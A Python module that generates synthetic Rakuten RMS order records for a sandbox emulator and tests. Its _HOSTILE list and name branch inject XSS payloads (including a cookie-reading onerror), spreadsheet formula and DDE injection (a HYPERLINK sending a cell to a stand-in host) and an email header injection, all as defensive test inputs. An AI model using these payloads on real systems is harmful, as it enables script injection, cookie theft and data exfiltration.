"""A realistic day of Rakuten orders, as RMS getOrder (version 10) returns them.

The sandbox feeds these to the RMS emulator so that `unyo demo`, the tests and
the bench run against the kinds of orders a real shop gets: mostly credit-card
orders through 楽天ペイ, some bank transfers that are paid hours later or never,
cash on delivery (選択制決済, created at 300), gifts with のし, several
destinations, remote islands, あす楽 / 最強翌日配送, pre-orders, subscriptions,
postage still to be decided (-9999), names with 髙 / 﨑 / half-width kana, and a
small share of hostile text. The order types of getOrder versions 6–10 come in small
shares too: コンビニ受取 (DeliveryCvsModel), 置き配 (dropOffFlag), ソーシャルギフト
(SocialGiftModel; the recipient gives the address hours later, or never), 当日出荷
(oneDayOperationFlag) and Rakuten's 注意表示 (cautionDisplayType / DetailType); the keys
and codes are in unyo.adapters.rakuten.mapping, with their source. Deterministic per seed.

Imports only the standard library and `unyo.clock`.
"""

from __future__ import annotations

import random
import unicodedata
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from typing import Any

from unyo.clock import JST

__all__ = ["NOT_FIXED", "GeneratedOrder", "format_rms_datetime", "generate_orders"]

NOT_FIXED = -9999
"""Rakuten's value for an amount that is not fixed yet (reference/rakuten-rms.md)."""

FREE_SHIPPING_FROM = 3980  # 送料無料ライン (typical shop setting)


def format_rms_datetime(instant: datetime) -> str:
    """`yyyy-MM-ddTHH:mm:ss+0900`, the only datetime format RMS accepts and returns."""
    return instant.astimezone(JST).strftime("%Y-%m-%dT%H:%M:%S+0900")


@dataclass
class GeneratedOrder:
    """One generated order and how Rakuten's side will treat it over time."""

    model: dict[str, Any]  # RMS OrderModel as getOrder version 10 returns it
    payment_delay: timedelta | None  # 200 → 300 this long after confirmation; None = never
    self_cancel_after: timedelta | None  # member cancels by themselves after this (< 30 min)
    auth_fails: bool  # authorisation fails: stays at 200 forever
    # ソーシャルギフト: the recipient gives their address this long after the order (None:
    # never, within the input period); the SenderModel they give
    gift_address_after: timedelta | None = None
    gift_recipient: dict[str, Any] | None = None

    @property
    def order_number(self) -> str:
        return str(self.model["orderNumber"])

    @property
    def ordered_at(self) -> datetime:
        return datetime.strptime(self.model["orderDatetime"], "%Y-%m-%dT%H:%M:%S%z")


# --- built-in tables ------------------------------------------------------------------------

# (postal code, prefecture, city, street part, isolated island)
_PLACES: tuple[tuple[str, str, str, str, bool], ...] = (
    ("1000005", "東京都", "千代田区", "丸の内1-9-1", False),
    ("1600023", "東京都", "新宿区", "西新宿2-8-1", False),
    ("1500002", "東京都", "渋谷区", "渋谷2-21-1", False),
    ("1710022", "東京都", "豊島区", "南池袋1-28-1", False),
    ("2200012", "神奈川県", "横浜市西区", "みなとみらい2-2-1", False),
    ("2100007", "神奈川県", "川崎市川崎区", "駅前本町11-2", False),
    ("3300854", "埼玉県", "さいたま市大宮区", "桜木町1-7-5", False),
    ("2600015", "千葉県", "千葉市中央区", "富士見2-3-1", False),
    ("5300001", "大阪府", "大阪市北区", "梅田3-1-1", False),
    ("5420076", "大阪府", "大阪市中央区", "難波5-1-60", False),
    ("4500002", "愛知県", "名古屋市中村区", "名駅1-1-4", False),
    ("6008216", "京都府", "京都市下京区", "東塩小路町721-1", False),
    ("6500021", "兵庫県", "神戸市中央区", "三宮町1-1-1", False),
    ("8120012", "福岡県", "福岡市博多区", "博多駅中央街1-1", False),
    ("0600005", "北海道", "札幌市中央区", "北五条西2-5", False),
    ("9800021", "宮城県", "仙台市青葉区", "中央1-1-1", False),
    ("7300011", "広島県", "広島市中区", "基町6-78", False),
    ("9000006", "沖縄県", "那覇市", "おもろまち4-1-1", False),
    ("9013701", "沖縄県", "島尻郡久米島町", "字比嘉160", True),
    ("9070004", "沖縄県", "石垣市", "登野城1-1", True),
    ("1002101", "東京都", "小笠原村", "父島字東町", True),
    ("8919301", "鹿児島県", "大島郡与論町", "茶花32-1", True),
)
_BUILDINGS = ("", "", "", " サンハイツ101", " グランドメゾン302号室", " ｺｰﾎﾟ山田 2F")

_FAMILY = (
    ("佐藤", "サトウ"),
    ("鈴木", "スズキ"),
    ("髙橋", "タカハシ"),
    ("田中", "タナカ"),
    ("伊藤", "イトウ"),
    ("渡辺", "ワタナベ"),
    ("山本", "ヤマモト"),
    ("中村", "ナカムラ"),
    ("小林", "コバヤシ"),
    ("加藤", "カトウ"),
    ("吉田", "ヨシダ"),
    ("山田", "ヤマダ"),
    ("山﨑", "ヤマザキ"),
    ("宮﨑", "ミヤザキ"),
    ("𠮷田", "ヨシダ"),
    ("松本", "マツモト"),
    ("井上", "イノウエ"),
    ("木村", "キムラ"),
    ("林", "ハヤシ"),
    ("斎藤", "サイトウ"),
)
_FIRST = (
    ("太郎", "タロウ"),
    ("花子", "ハナコ"),
    ("翔太", "ショウタ"),
    ("美咲", "ミサキ"),
    ("健一", "ケンイチ"),
    ("陽菜", "ヒナ"),
    ("大輔", "ダイスケ"),
    ("由美", "ユミ"),
    ("蓮", "レン"),
    ("さくら", "サクラ"),
    ("誠", "マコト"),
    ("恵子", "ケイコ"),
)

# (itemNumber, manageNumber, itemId, name, price (tax incl.), taxRate, variants, pre-order)
# variants: tuple of (merchantDefinedSkuId suffix, selectedChoice text)
_Variant = tuple[str, str]
_CATALOGUE: tuple[tuple[str, str, int, str, int, float, tuple[_Variant, ...], bool], ...] = (
    ("tea-001", "tea-001", 10000001, "静岡県産 深蒸し煎茶 100g", 1080, 0.08, (), False),
    ("tea-002", "tea-002", 10000002, "宇治抹茶 30g缶", 1620, 0.08, (), False),
    ("tea-003", "tea-003", 10000003, "ほうじ茶ティーバッグ 50袋", 980, 0.08, (), False),
    (
        "swt-001",
        "swt-001",
        10000004,
        "国産バター使用 クッキー詰め合わせ 24枚",
        2480,
        0.08,
        (),
        False,
    ),
    ("swt-002", "swt-002", 10000005, "京ばあむ 1本", 1944, 0.08, (), False),
    ("swt-003", "swt-003", 10000006, "栗きんとん 6個入", 3240, 0.08, (), False),
    ("swt-004", "swt-004", 10000007, "【冷凍】チーズケーキ 5号", 3980, 0.08, (), False),
    (
        "fru-001",
        "fru-001",
        10000008,
        "山形県産 さくらんぼ 佐藤錦 500g",
        5400,
        0.08,
        (("l", "サイズ:L"), ("2l", "サイズ:2L")),
        False,
    ),
    ("fru-002", "fru-002", 10000009, "愛媛 みかん 5kg 訳あり", 2980, 0.08, (), False),
    (
        "ric-001",
        "ric-001",
        10000010,
        "令和7年産 新潟県産コシヒカリ 5kg",
        4280,
        0.08,
        (("hakumai", "精米:白米"), ("genmai", "精米:玄米")),
        False,
    ),
    ("ric-002", "ric-002", 10000011, "北海道産 ゆめぴりか 10kg", 7980, 0.08, (), False),
    ("cof-001", "cof-001", 10000012, "ドリップコーヒー 100袋 福袋", 3580, 0.08, (), False),
    (
        "gif-001",
        "gif-001",
        10000013,
        "【お歳暮】ハム・ソーセージ ギフトセット",
        5400,
        0.08,
        (),
        False,
    ),
    ("gif-002", "gif-002", 10000014, "今治タオル ギフトセット 木箱入り", 4400, 0.10, (), False),
    ("gif-003", "gif-003", 10000015, "カタログギフト 5,800円コース", 6380, 0.10, (), False),
    (
        "tow-001",
        "tow-001",
        10000016,
        "今治タオル バスタオル",
        2750,
        0.10,
        (("wh", "カラー:ホワイト"), ("nv", "カラー:ネイビー"), ("gy", "カラー:グレー")),
        False,
    ),
    (
        "tsh-001",
        "tsh-001",
        10000017,
        "綿100% 無地Tシャツ",
        1980,
        0.10,
        (
            ("wh-m", "カラー:ホワイト\nサイズ:M"),
            ("wh-l", "カラー:ホワイト\nサイズ:L"),
            ("bk-m", "カラー:ブラック\nサイズ:M"),
            ("bk-l", "カラー:ブラック\nサイズ:L"),
        ),
        False,
    ),
    ("sox-001", "sox-001", 10000018, "メンズ ビジネスソックス 5足組", 1280, 0.10, (), False),
    ("kit-001", "kit-001", 10000019, "南部鉄器 急須 0.6L", 8800, 0.10, (), False),
    ("kit-002", "kit-002", 10000020, "美濃焼 茶碗 夫婦セット", 3300, 0.10, (), False),
    (
        "kit-003",
        "kit-003",
        10000021,
        "ステンレス 保温ボトル 500ml",
        2640,
        0.10,
        (("sv", "カラー:シルバー"), ("rd", "カラー:レッド")),
        False,
    ),
    ("hom-001", "hom-001", 10000022, "ひのき 入浴剤 10包", 1100, 0.10, (), False),
    ("hom-002", "hom-002", 10000023, "アロマディフューザー 200ml", 3520, 0.10, (), False),
    ("hom-003", "hom-003", 10000024, "羽毛布団 シングル", 19800, 0.10, (), False),
    ("bty-001", "bty-001", 10000025, "無添加 石けん 3個セット", 1650, 0.10, (), False),
    ("bty-002", "bty-002", 10000026, "ハンドクリーム ギフト", 2200, 0.10, (), False),
    ("pet-001", "pet-001", 10000027, "国産 無添加ドッグフード 2kg", 3080, 0.08, (), False),
    ("mal-001", "mal-001", 10000028, "【メール便】マスキングテープ 5巻", 550, 0.10, (), False),
    ("pre-001", "pre-001", 10000029, "【予約】限定 福袋 2027", 10800, 0.10, (), True),
    ("pre-002", "pre-002", 10000030, "【予約】新米 予約 10kg", 8640, 0.08, (), True),
)
_PREORDER_ITEMS = tuple(i for i, c in enumerate(_CATALOGUE) if c[7])
_REGULAR_ITEMS = tuple(i for i, c in enumerate(_CATALOGUE) if not c[7])

# (settlementMethodCode, settlementMethod, rpaySettlementFlag, weight)
_PAYMENTS: tuple[tuple[int, str, int, float], ...] = (
    (1, "クレジットカード", 1, 68.0),
    (9, "銀行振込", 1, 6.0),
    (13, "セブン-イレブン（前払）", 1, 2.0),
    (14, "ローソン、郵便局ATM等（前払）", 1, 2.0),
    (21, "後払い決済", 1, 5.0),
    (2, "代金引換", 0, 8.0),
    (12, "Apple Pay", 1, 3.0),
    (17, "PayPal", 1, 1.0),
    (8, "ポイント", 1, 2.0),  # point-only: the whole amount is paid with points
)

_REQUESTS = (
    "ギフト包装をお願いします",
    "のしは「御歳暮」でお願いします。名入れは髙橋です。",
    "不在の場合は宅配ボックスに入れてください",
    "領収書を同封してください。宛名は株式会社ｻﾝﾌﾟﾙでお願いします",
    "できるだけ早く発送してください",
    "前回注文分と同梱できますか？",
    "金額のわかるものは入れないでください（プレゼントです）",
    "インターホンが壊れているので電話をお願いします\n090-0000-0000",
)
_HOSTILE = (
    "<script>alert(1)</script>",
    '=HYPERLINK("http://example.invalid/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "配達前に電話\r\nBcc: victim@example.invalid",
    "<img src=x onerror=alert(document.cookie)>",
)
_NOSHI = ("御歳暮", "御中元", "内祝", "御祝", "粗品", "御礼")
_TIME_SLOTS = (
    ("1", "午前中"),
    ("1416", "14:00-16:00"),
    ("1618", "16:00-18:00"),
    ("1820", "18:00-20:00"),
    ("1921", "19:00-21:00"),
    ("2", "午後"),
)
_WEEKDAYS = "月火水木金土日"

# Orders per hour of day (JST): quiet at night, peaks at lunch and in the evening.
_HOURLY = (
    0.6,
    0.35,
    0.2,
    0.15,
    0.1,
    0.15,
    0.35,
    0.7,
    1.0,
    1.2,
    1.3,
    1.5,
    2.2,
    1.8,
    1.3,
    1.2,
    1.2,
    1.3,
    1.6,
    2.0,
    2.6,
    2.8,
    2.4,
    1.5,
)

_FULL_KANA = "アイウエオカキクケコサシスセソタチツテトナニヌネノハヒフヘホ"
_FULL_KANA += "マミムメモヤユヨラリルレロワヲンァィゥェォャュョッー"
_HALF_KANA = "ｱｲｳｴｵｶｷｸｹｺｻｼｽｾｿﾀﾁﾂﾃﾄﾅﾆﾇﾈﾉﾊﾋﾌﾍﾎﾏﾐﾑﾒﾓﾔﾕﾖﾗﾘﾙﾚﾛﾜｦﾝｧｨｩｪｫｬｭｮｯｰ"
_TO_HALF = {ord(f): h for f, h in zip(_FULL_KANA, _HALF_KANA, strict=True)}
_TO_HALF[0x3099] = "ﾞ"
_TO_HALF[0x309A] = "ﾟ"


def _half_width_kana(text: str) -> str:
    return unicodedata.normalize("NFD", text).translate(_TO_HALF)


# 置き配場所 as RMS lists them (PackageModel.dropOffLocation)
_DROP_OFF = ("宅配ボックス", "玄関前", "玄関前鍵付容器", "ポスト（郵便受箱）", "メーターボックス",
             "物置", "車庫")
# コンビニ受取 stores: (cvsCode, storeCode, storeName, storeZip, storePrefecture, storeAddress)
_CVS_STORES = (
    (1, "012345", "ファミリーマート 新宿西口店", "160-0023", "東京都", "新宿区西新宿1-1-3"),
    (50, "203040", "ローソン 梅田三丁目店", "530-0001", "大阪府", "大阪市北区梅田3-2-2"),
    (20, "004512", "ミニストップ 名駅南店", "450-0003", "愛知県", "名古屋市中村区名駅南1-2-3"),
    (60, "00110", "博多郵便局", "812-0011", "福岡県", "福岡市博多区博多駅前3-30-1"),
)
# SenderModel while a social gift's recipient has not given their address (Rakuten's
# placeholders, getOrder Level 4 SenderModel)
_GIFT_PLACEHOLDER = {
    "zipCode1": "999", "zipCode2": "9999", "prefecture": "入力待ち", "city": "入力待ち",
    "subAddress": "入力待ち", "familyName": "入力待ち", "firstName": "入力待ち",
    "familyNameKana": "ニュウリョクマチ", "firstNameKana": "ニュウリョクマチ",
    "phoneNumber1": "999", "phoneNumber2": "9999", "phoneNumber3": "9999",
    "isolatedIslandFlag": 0,
}


# --- generation -----------------------------------------------------------------------------


def generate_orders(
    n: int,
    *,
    seed: int,
    start: datetime,
    end: datetime,
    shop_number: str = "123456",
) -> list[GeneratedOrder]:
    """`n` orders placed in [start, end), sorted by orderDatetime; same seed, same orders."""
    if start.tzinfo is None or end.tzinfo is None:
        raise ValueError("start and end must be timezone-aware")
    if end <= start:
        raise ValueError("end must be after start")
    rng = random.Random(seed)
    instants = sorted(_order_instants(rng, n, start, end))
    used: set[str] = set()
    orders = []
    for at in instants:
        while True:
            number = f"{shop_number}-{at.astimezone(JST):%Y%m%d}-{rng.randrange(10**10):010d}"
            if number not in used:
                used.add(number)
                break
        orders.append(_Builder(rng, number, at).build())
    # Same order as RMS lists them: by orderDatetime, ties by order number.
    orders.sort(key=lambda o: (o.model["orderDatetime"], o.order_number))
    return orders


def _order_instants(rng: random.Random, n: int, start: datetime, end: datetime) -> list[datetime]:
    span = int((end - start).total_seconds())
    top = max(_HOURLY)
    result: list[datetime] = []
    while len(result) < n:
        at = start.replace(microsecond=0) + timedelta(seconds=rng.randrange(max(span, 1)))
        if at < start or at >= end:
            continue
        if rng.random() * top < _HOURLY[at.astimezone(JST).hour]:
            result.append(at)
    return result


class _Builder:
    """Builds one OrderModel; one method per part so each stays readable."""

    def __init__(self, rng: random.Random, number: str, at: datetime) -> None:
        self.rng = rng
        self.number = number
        self.at = at
        self.hostile = rng.random() < 0.03

    def build(self) -> GeneratedOrder:
        rng = self.rng
        code, method_name, rpay, _ = rng.choices(_PAYMENTS, weights=[p[3] for p in _PAYMENTS])[0]
        cod = code == 2
        order_type = rng.choices((1, 4, 6), weights=(90, 4, 6))[0]
        member = rng.random() >= 0.1
        next_day = not cod and order_type == 1 and rng.random() < 0.12
        cert = next_day and rng.random() < 0.45
        asuraku = (next_day and not cert) or (cert and rng.random() < 0.5)
        gift = rng.random() < 0.1
        several = not cod and not next_day and rng.random() < 0.05
        # The newer order types, in small shares (their own draws, after the others')
        roll_type, roll_flags = rng.random(), rng.random()
        single = not cod and not several and order_type == 1
        social = single and roll_type < 0.015
        cvs = single and not next_day and 0.015 <= roll_type < 0.035
        same_day = order_type == 1 and ((next_day and roll_flags < 0.5) or roll_flags < 0.03)
        buyer = self._person(island_ok=not next_day and not cvs)
        n_packages = rng.choice((2, 3)) if several else 1
        gift_to_other = (gift and rng.random() < 0.6 and not cvs) or social
        senders = [
            buyer
            if (i == 0 and not gift_to_other and not several)
            else self._person(island_ok=not next_day and not social)
            for i in range(n_packages)
        ]
        island = any(s["isolatedIslandFlag"] == 1 for s in senders)
        not_fixed = code not in (2, 8) and ((island and rng.random() < 0.5) or rng.random() < 0.015)
        packages = [
            self._package(i, s, order_type, gift, cod, not_fixed) for i, s in enumerate(senders)
        ]
        gift_recipient: dict[str, Any] | None = None
        gift_after: timedelta | None = None
        for p in packages:
            if not cvs and rng.random() < 0.08:
                p["dropOffFlag"] = 1
                p["dropOffLocation"] = rng.choice(_DROP_OFF)
        if cvs:
            code, store, name, zip_code, prefecture, address = rng.choice(_CVS_STORES)
            packages[0]["DeliveryCvsModel"] = {
                "cvsCode": code, "storeGenreCode": None, "storeCode": store,
                "storeName": name, "storeZip": zip_code, "storePrefecture": prefecture,
                "storeAddress": address, "areaCode": None, "depo": None,
                "openTime": "00:00", "closeTime": "24:00", "cvsRemarks": None}
        if social:
            gift_recipient = packages[0]["SenderModel"]
            packages[0]["SenderModel"] = dict(_GIFT_PLACEHOLDER)
            packages[0]["dropOffFlag"], packages[0]["dropOffLocation"] = 0, None
            due = self.at.astimezone(JST).date() + timedelta(days=7)
            packages[0]["SocialGiftModel"] = {
                "sgMngNumber": f"{self.number}-sg", "inputDueDate": due.isoformat(),
                "inputFlag": 0, "inputCompDatetime": None, "receiverEmailAddress": None}
            # most recipients answer within hours; some not that day, a few never
            gift_after = (None if rng.random() < 0.1
                          else timedelta(minutes=rng.randint(20, 30 * 60)))
        caution_roll = rng.random()
        caution = 1 if caution_roll < 0.01 else 2 if caution_roll < 0.012 else 0
        caution_detail = rng.choice((101, 102, 103, 104, 105)) if caution == 1 else None

        goods = sum(p["goodsPrice"] for p in packages)
        delivery = sum(p["deliveryPrice"] for p in packages)
        postage = NOT_FIXED if not_fixed else sum(p["postagePrice"] for p in packages)
        total = NOT_FIXED if not_fixed else goods + postage + delivery
        coupon = rng.choice((100, 200, 300, 500)) if rng.random() < 0.1 and goods > 1000 else 0
        used_point = 0
        if code == 8:
            used_point = total - coupon
        elif member and not not_fixed and rng.random() < 0.2:
            used_point = min(rng.choice((1, 50, 100, 300, 500, 1000)), total - coupon)
        request = NOT_FIXED if not_fixed else total - used_point - coupon

        delivery_date, term, remarks = self._remarks(next_day)
        model: dict[str, Any] = {
            "orderNumber": self.number,
            # every order starts at 100, 選択制決済 (代金引換) too: it needs 注文確認 like any
            # other (reference/rakuten-rms.md, status codes; LOGILESS's manual)
            "orderProgress": 100,
            "subStatusId": None,
            "subStatusName": None,
            "orderDatetime": format_rms_datetime(self.at),
            "shopOrderCfmDatetime": None,
            "orderFixDatetime": None,
            "shippingInstDatetime": None,
            "shippingCmplRptDatetime": None,
            "cancelDueDate": (self.at.astimezone(JST).date() + timedelta(days=14)).isoformat(),
            "deliveryDate": delivery_date,
            "shippingTerm": term,
            "remarks": remarks,
            "giftCheckFlag": int(gift or social),
            "socialGiftFlag": int(social),
            "severalSenderFlag": int(several),
            "equalSenderFlag": int(senders[0] is buyer),
            "isolatedIslandFlag": int(island),
            "rakutenMemberFlag": int(member),
            "carrierCode": 0,
            "emailCarrierCode": 0,
            "orderType": order_type,
            "reserveNumber": f"{self.rng.randrange(10**9):09d}" if order_type != 1 else None,
            "reserveDeliveryCount": 1 if order_type == 4 else None,
            "cautionDisplayType": caution,
            "cautionDisplayDetailType": caution_detail,
            "rakutenConfirmFlag": 0,
            "goodsPrice": goods,
            "goodsTax": sum(p["goodsTax"] for p in packages),
            "postagePrice": postage,
            "deliveryPrice": delivery,
            "paymentCharge": 0,
            "paymentChargeTaxRate": 0.1,
            "totalPrice": total,
            "requestPrice": request,
            "couponAllTotalPrice": coupon,
            "couponShopPrice": coupon,
            "couponOtherPrice": 0,
            "additionalFeeOccurAmountToUser": 0,
            "additionalFeeOccurAmountToShop": 0,
            "asurakuFlag": int(asuraku),
            "drugFlag": 0,
            "dealFlag": 0,
            "membershipType": 0,
            "memo": None,
            "operator": None,
            "mailPlugSentence": None,
            "modifyFlag": 0,
            "receiptIssueCount": 0,
            "receiptIssueHistoryList": [],
            "isTaxRecalc": 0,
            "oneDayOperationFlag": int(same_day),
            "deliveryCertPrgFlag": int(cert),
            "OrdererModel": self._orderer(buyer),
            "SettlementModel": self._settlement(code, method_name, rpay),
            "DeliveryModel": {"deliveryName": "コンビニ受取" if cvs else "宅配便",
                              "deliveryClass": 0},
            "PointModel": {"usedPoint": used_point},
            "WrappingModel1": self._wrapping() if gift else None,
            "WrappingModel2": None,
            "PackageModelList": packages,
            "CouponModelList": self._coupons(coupon),
            "ChangeReasonModelList": [],
            "TaxSummaryModelList": [],
            "DueDateModelList": [],
        }
        return GeneratedOrder(model, *self._payment_timing(code, order_type, member, next_day),
                              gift_address_after=gift_after, gift_recipient=gift_recipient)

    def _payment_timing(
        self,
        code: int,
        order_type: int,
        member: bool,
        next_day: bool,
    ) -> tuple[timedelta | None, timedelta | None, bool]:
        rng = self.rng
        auth_fails = False
        delay: timedelta | None
        if code in (1, 12, 17):
            delay = timedelta(seconds=rng.randint(60, 600))
            auth_fails = rng.random() < 0.02
        elif code == 9:  # 楽天ペイ bank transfer: paid hours later, or never
            delay = None if rng.random() < 0.25 else timedelta(minutes=rng.randint(60, 36 * 60))
        elif code in (13, 14):  # convenience-store prepay
            delay = None if rng.random() < 0.2 else timedelta(minutes=rng.randint(30, 48 * 60))
        elif code == 2:  # COD: nothing to authorise, at 300 as soon as it is confirmed
            delay = timedelta(0)
        else:  # after-pay, points: a quick check
            delay = timedelta(seconds=rng.randint(30, 300))
        self_cancel = None
        cancellable = member and order_type == 1 and not next_day and code != 2
        if cancellable and rng.random() < 0.04:
            self_cancel = timedelta(seconds=rng.randint(60, 29 * 60))
        return delay, self_cancel, auth_fails

    def _name(self) -> tuple[str, str, str, str]:
        rng = self.rng
        family, family_kana = rng.choice(_FAMILY)
        first, first_kana = rng.choice(_FIRST)
        if rng.random() < 0.08:
            family_kana, first_kana = _half_width_kana(family_kana), _half_width_kana(first_kana)
        if self.hostile and rng.random() < 0.3:
            first = rng.choice(("太郎\r\n", "<b>花子</b>", "=1+2", "+81-cmd", "太\n郎"))
        return family, first, family_kana, first_kana

    def _person(self, *, island_ok: bool) -> dict[str, Any]:
        """Name, address and phone, shaped like RMS OrdererModel / SenderModel share them."""
        rng = self.rng
        on_island = island_ok and rng.random() < 0.06
        postal, prefecture, city, street, island = rng.choice(
            [p for p in _PLACES if p[4] == on_island]
        )
        family, first, family_kana, first_kana = self._name()
        sub_address = street + rng.choice(_BUILDINGS)
        if self.hostile and rng.random() < 0.2:
            sub_address += rng.choice(_HOSTILE)
        return {
            "zipCode1": postal[:3],
            "zipCode2": postal[3:],
            "prefecture": prefecture,
            "city": city,
            "subAddress": sub_address,
            "familyName": family,
            "firstName": first,
            "familyNameKana": family_kana,
            "firstNameKana": first_kana,
            "phoneNumber1": rng.choice(("090", "080", "070", "03", "06")),
            "phoneNumber2": f"{rng.randrange(10**4):04d}",
            "phoneNumber3": f"{rng.randrange(10**4):04d}",
            "isolatedIslandFlag": int(island),
        }

    def _orderer(self, person: dict[str, Any]) -> dict[str, Any]:
        rng = self.rng
        model = {k: v for k, v in person.items() if k != "isolatedIslandFlag"}
        model["emailAddress"] = f"{rng.getrandbits(128):032x}s1@pc.fw.rakuten.ne.jp"
        model["sex"] = rng.choice(("男", "女", None))
        model["birthYear"] = rng.randint(1950, 2005)
        model["birthMonth"] = rng.randint(1, 12)
        model["birthDay"] = rng.randint(1, 28)
        return model

    def _package(
        self,
        index: int,
        sender: dict[str, Any],
        order_type: int,
        gift: bool,
        cod: bool,
        not_fixed: bool,
    ) -> dict[str, Any]:
        rng = self.rng
        sender_model = dict(sender)
        island = sender_model["isolatedIslandFlag"] == 1
        if order_type == 6:
            picks = [rng.choice(_PREORDER_ITEMS)]
        else:
            count = rng.choices((1, 2, 3, 4), weights=(60, 25, 10, 5))[0]
            picks = rng.sample(_REGULAR_ITEMS, count)
        items = [self._item(i) for i in picks]
        goods = sum(i["price"] * i["units"] for i in items)
        far = sender_model["prefecture"] in ("北海道", "沖縄県") or island
        postage = 0 if goods >= FREE_SHIPPING_FROM else (1200 if far else 700)
        delivery = 0
        if cod:
            due = goods + postage
            delivery = 330 if due <= 10000 else (440 if due <= 30000 else 660)
        return {
            "basketId": rng.randrange(10**7, 10**8),
            "postagePrice": NOT_FIXED if not_fixed else postage,
            "postageTaxRate": 0.1,
            "deliveryPrice": delivery,
            "deliveryTaxRate": 0.1,
            "goodsTax": sum(_included_tax(i["price"] * i["units"], i["taxRate"]) for i in items),
            "goodsPrice": goods,
            "totalPrice": NOT_FIXED if not_fixed else goods + postage + delivery,
            "noshi": rng.choice(_NOSHI) if gift and rng.random() < 0.7 else None,
            "packageDeleteFlag": 0,
            "SenderModel": sender_model,
            "ItemModelList": items,
            "ShippingModelList": [],
            "DeliveryCvsModel": None,
            "defaultDeliveryCompanyCode": "1001",
            "dropOffFlag": 0,
            "dropOffLocation": None,
            "SocialGiftModel": None,
        }

    def _item(self, index: int) -> dict[str, Any]:
        rng = self.rng
        number, manage, item_id, name, price, tax, variants, preorder = _CATALOGUE[index]
        choice = ""
        skus: list[dict[str, Any]] = []
        if variants:
            suffix, choice = rng.choice(variants)
            sku = f"{manage}-{suffix}"
            skus = [
                {
                    "variantId": sku,
                    "merchantDefinedSkuId": sku,
                    "skuInfo": choice.replace("\n", " "),
                }
            ]
        if preorder:
            release = self.at.astimezone(JST).date() + timedelta(days=rng.randint(10, 60))
            info = f"{release.year}年{release.month}月{release.day}日発売予定（発売日以降順次発送）"
        else:
            info = "1～2日以内に発送予定（店舗休業日を除く）"
        return {
            "itemDetailId": rng.randrange(10**8, 10**9),
            "itemName": name,
            "itemId": item_id,
            "itemNumber": number,
            "manageNumber": manage,
            "price": price,
            "units": rng.choices((1, 2, 3, 5), weights=(75, 15, 7, 3))[0],
            "includePostageFlag": 0,
            "includeTaxFlag": 1,
            "includeCashOnDeliveryPostageFlag": 0,
            "selectedChoice": choice,
            "pointRate": 1,
            "pointType": 0,
            "inventoryType": 2 if variants else 1,
            "delvdateInfo": info,
            "restoreInventoryFlag": 0,
            "dealFlag": 0,
            "drugFlag": 0,
            "deleteItemFlag": 0,
            "taxRate": tax,
            "priceTaxIncl": price,
            "isSingleItemShipping": 0,
            "SkuModelList": skus,
        }

    def _remarks(self, next_day: bool) -> tuple[str | None, int | str, str]:
        """Rakuten writes template lines into 備考欄; buyers sometimes add real requests."""
        rng = self.rng
        lines: list[str] = []
        delivery_date: str | None = None
        term: int | str = 0
        if rng.random() < 0.25:
            days_ahead = rng.randint(1 if next_day else 3, 10)
            day = self.at.astimezone(JST).date() + timedelta(days=days_ahead)
            term, slot = rng.choice(_TIME_SLOTS)
            delivery_date = day.isoformat()
            lines += ["[配送日時指定:]", f"{_fmt_day(day)}", slot]
        roll = rng.random()
        if self.hostile:
            lines += ["[メッセージ:]", rng.choice(_HOSTILE)]
        elif roll < 0.15:
            lines += ["[メッセージ:]", rng.choice(_REQUESTS)]
        elif roll < 0.5:
            lines += ["[メッセージ:]", ""]
        return delivery_date, term, "\n".join(lines)

    def _settlement(self, code: int, name: str, rpay: int) -> dict[str, Any]:
        card = code == 1
        return {
            "settlementMethodCode": code,
            "settlementMethod": name,
            "rpaySettlementFlag": rpay,
            "cardName": self.rng.choice(("VISA", "MasterCard", "JCB", "AMEX")) if card else None,
            "cardNumber": "XXXX-XXXX-XXXX-" + f"{self.rng.randrange(10**4):04d}" if card else None,
            "cardOwner": None,
            "cardYm": None,
            "cardPayType": 0 if card else None,
            "cardInstallmentDesc": None,
        }

    def _wrapping(self) -> dict[str, Any]:
        # Free wrapping keeps goods + postage + 代引料 + paymentCharge = totalPrice exact.
        return {
            "title": 1,
            "name": "無料ギフトラッピング",
            "price": 0,
            "includeTaxFlag": 1,
            "deleteWrappingFlag": 0,
            "taxRate": 0.1,
            "taxPrice": 0,
        }

    def _coupons(self, coupon: int) -> list[dict[str, Any]]:
        if not coupon:
            return []
        return [
            {
                "couponCode": f"SHOP-{self.rng.randrange(10**6):06d}",
                "itemId": 0,
                "couponName": f"{coupon}円OFFクーポン",
                "couponSummary": f"{coupon}円OFF",
                "couponCapital": "ショップ",
                "couponCapitalCode": 1,
                "expiryDate": None,
                "couponPrice": coupon,
                "couponUnit": 1,
                "couponTotalPrice": coupon,
            }
        ]


def _included_tax(amount: int, rate: float) -> int:
    return int(amount * rate / (1 + rate))


def _fmt_day(day: date) -> str:
    return f"{day.isoformat()}({_WEEKDAYS[day.weekday()]})"
